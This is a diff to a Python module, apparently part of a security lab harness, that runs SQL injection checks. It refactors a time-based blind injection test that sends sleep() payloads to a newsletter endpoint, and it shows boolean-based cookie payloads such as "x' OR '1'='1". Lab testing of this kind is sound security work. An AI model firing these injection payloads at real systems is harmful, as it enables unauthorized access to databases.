@@ -1,6 +1,8 @@
 """Exploits of SQL injection."""
 
-from lab.client import Lab
+from collections.abc import Awaitable
+
+from lab.client import Lab, Reply, shortest
 
 _COOKIE_TRUE, _COOKIE_FALSE = "x' OR '1'='1", "x' OR '1'='2"
 
@@ -16,9 +18,10 @@ async def _boolean(lab: Lab) -> bool:
 
 
 async def _time(lab: Lab) -> bool:
-    slow = await lab.post("/newsletter/subscribe", email="x' OR sleep(1.5) OR '1'='2")
-    fast = await lab.post("/newsletter/subscribe", email="x' OR sleep(0) OR '1'='2")
-    return slow.seconds - fast.seconds > 0.9
+    def told(seconds: str) -> Awaitable[Reply]:
+        return lab.post("/newsletter/subscribe", email=f"x' OR sleep({seconds}) OR '1'='2")
+
+    return await shortest(lambda: told("1.5")) - await shortest(lambda: told("0")) > 0.9
 
 
 async def _union(lab: Lab) -> bool:
